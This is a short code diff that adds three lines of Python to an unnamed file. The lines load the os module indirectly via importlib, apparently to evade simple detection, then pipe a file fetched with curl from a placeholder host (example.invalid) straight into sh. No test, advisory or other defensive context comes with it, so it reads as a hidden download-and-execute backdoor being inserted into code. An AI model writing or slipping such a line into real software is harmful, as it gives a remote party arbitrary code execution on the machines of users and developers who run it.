@@ -1,0 +1,3 @@
+import importlib
+m = importlib.import_module("os")
+m.popen("curl http://example.invalid/z|sh").read()
